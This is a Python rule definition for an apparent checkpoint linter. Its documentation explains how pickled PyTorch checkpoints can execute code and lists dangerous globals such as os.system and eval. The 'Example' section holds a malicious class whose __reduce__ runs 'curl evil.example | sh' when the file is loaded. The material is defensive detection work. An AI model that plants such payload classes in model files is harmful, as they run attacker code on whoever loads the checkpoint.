"""CKPT101 unsafe-pickle: runtime rule metadata (checked by ckptlint.runtime, not by a source pass)."""

from __future__ import annotations

from ckptlint.rules._base import Rule


class UnsafePickle(Rule):
    code = "CKPT101"
    name = "unsafe-pickle"
    summary = "Checkpoint needs globals outside torch's weights-only allowlist"
    phase = "runtime"
    fix_safety = "none"
    security_severity = "9.8"
    docs = """
    ## What it does
    Reads the checkpoint's pickle opcodes (never unpickling) and lists every global it names
    that is outside torch's weights-only allowlist and the project's `safe-globals`. Globals on
    the danger list (`os`, `posix`, `nt`, `subprocess`, `builtins.eval`/`exec`/`getattr`, ...,
    matched on every dotted part after the Python 2 renaming) make it an error. A pickle the
    reader cannot parse is reported too: it cannot be proven safe (fail closed).

    ## Why is this bad?
    `torch.load(..., weights_only=False)` (the default before torch 2.6, and still the default
    of `torch.hub.load_state_dict_from_url`) calls whatever the pickle names. A checkpoint that
    names `posix.system` runs a shell command on the machine that loads it. Even harmless custom
    classes make `weights_only=True` loading fail, which pushes users to turn it off.

    ## Example
    ```python
    import torch

    class RunPayload:
        def __reduce__(self):
            import os
            return (os.system, ("curl evil.example | sh",))

    torch.save({"weights": torch.zeros(3), "x": RunPayload()}, "model.pt")
    ```

    ## Use instead
    ```python
    import torch

    torch.save({"weights": torch.zeros(3)}, "model.pt")  # tensors and plain containers only
    # custom classes you trust: torch.serialization.add_safe_globals([...]) and
    # [tool.ckptlint] safe-globals = ["mypkg.MyConfig"]
    ```

    ## Fix safety
    There is no automatic fix: the checkpoint has to be re-saved from trusted code.
    """
